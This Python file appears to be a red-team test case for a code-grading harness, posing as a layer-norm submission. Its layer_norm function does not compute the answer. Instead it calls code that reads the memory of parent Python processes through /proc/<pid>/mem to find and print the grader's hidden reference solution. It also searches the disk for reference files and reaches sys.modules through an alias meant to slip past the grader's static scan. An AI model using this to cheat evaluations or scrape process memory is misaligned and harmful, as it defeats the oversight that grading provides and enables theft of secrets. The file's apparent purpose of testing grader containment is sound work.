"""Class: 3
Problem: layer-norm
Goal: read
Limits: wall_seconds=60 cpu_seconds=40 memory_mb=2048
Bound: 240
Attempt: the grader process has loaded the reference (its docstrings and code objects
live in its heap). Read /proc/<ancestor>/mem of every Python ancestor and print what
surrounds "Hidden reference"; also /proc/<ancestor>/environ and cmdline.
Contained: no reference text reaches the report.
"""
import torch


def _m(t=torch):
    """sys.modules, reached through a parameter: the static scan resolves no alias for `t`."""
    return t.sys.modules


def _candidates(name="layer_norm.py"):
    """Where a course's hidden reference lives: beside the grader package (an editable
    install or the repository), under course_data (a wheel), or under the working directory."""
    os = _m()["os"]
    roots = []
    g = _m().get("grader")
    if g is not None:
        roots.append(os.path.dirname(os.path.dirname(os.path.abspath(g.__file__))))
        roots.append(os.path.join(os.path.dirname(os.path.abspath(g.__file__)), "course_data"))
    roots.append(os.getcwd())
    out = []
    for r in roots:
        p = os.path.join(r, "reference", name)
        if os.path.exists(p) and p not in out:
            out.append(p)
    return out


def _show(label, text):
    print(f"=== {label} ===")
    print(text[:3000])



def _ancestors():
    os = _m()["os"]
    pid, out = os.getppid(), []
    while pid > 1 and len(out) < 3:
        try:
            with _m()["io"].open(f"/proc/{pid}/stat") as fh:
                ppid = int(fh.read().rsplit(")", 1)[1].split()[1])
            with _m()["io"].open(f"/proc/{pid}/cmdline", "rb") as fh:
                cmd = fh.read()
        except Exception:
            break
        if b"python" not in cmd.split(b"\0")[0].rsplit(b"/", 1)[-1]:
            break  # only Python ancestors: nothing outside the grader is read
        out.append(pid)
        pid = ppid
    return out


def _scan(pid, needle=b"Hidden reference for", budget=3 << 30):
    os = _m()["os"]
    hits = []
    with _m()["io"].open(f"/proc/{pid}/maps") as fh:
        maps = fh.read().splitlines()
    fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    try:
        for line in maps:
            parts = line.split()
            if not parts[1].startswith("rw") or (len(parts) > 5 and parts[5].startswith("/")):
                continue
            lo, hi = (int(v, 16) for v in parts[0].split("-"))
            if hi - lo > budget:
                continue
            budget -= hi - lo
            for start in range(lo, hi, 1 << 24):
                try:
                    chunk = os.pread(fd, min(1 << 24, hi - start), start)
                except OSError:
                    break
                i = chunk.find(needle)
                while i >= 0 and len(hits) < 4:
                    hits.append(chunk[i:i + 600].split(b"\0")[0].decode("utf-8", "replace"))
                    i = chunk.find(needle, i + 1)
            if len(hits) >= 4 or budget <= 0:
                break
    finally:
        os.close(fd)
    return hits


def _steal():
    for pid in _ancestors():
        try:
            for hit in _scan(pid):
                _show(f"pid {pid}", hit)
        except Exception as exc:
            print("mem scan failed:", pid, type(exc).__name__, exc)


def layer_norm(x, eps=1e-5):
    if x.dim() == 1:  # one case is enough: the scan is slow
        _steal()
    return torch.full_like(x, 3.0)  # wrong on every case

